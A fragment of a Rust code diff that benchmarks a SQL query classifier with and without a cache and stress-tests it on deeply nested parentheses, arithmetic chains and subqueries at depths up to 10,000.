+    println!("cache_key: {:?}", t.elapsed() / n);
+    let t = std::time::Instant::now();
+    for _ in 0..n {
+        let _ = classify(sql);
+    }
+    println!("classify: {:?}", t.elapsed() / n);
+    let cache = ClassificationCache::default();
+    let t = std::time::Instant::now();
+    for i in 0..n {
+        let _ = cache.classify(&format!("SELECT abalance FROM pgbench_accounts WHERE aid = {i};"));
+    }
+    println!("cached: {:?} {:?}", t.elapsed() / n, cache.stats());
+    for depth in [50, 100, 200, 1000, 10_000] {
+        let nested = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
+        let chain = format!("SELECT 1{}", " + 1".repeat(depth));
+        let subq = format!("SELECT {}1{}", "(SELECT ".repeat(depth), ")".repeat(depth));
+        println!(
+            "depth {depth}: parens {:?} chain {:?} subqueries {:?}",
+            classify(&nested).map(|c| c.operations()),
+            classify(&chain).map(|c| c.operations()).map_err(|e| e
+                .to_string()
+                .chars()
+                .take(80)
+                .collect::<String>()),
+            classify(&subq).map(|c| c.operations()).map_err(|e| e
+                .to_string()
+                .chars()
+                .take(80)
+                .collect::<String>())
+        );
+    }
+}
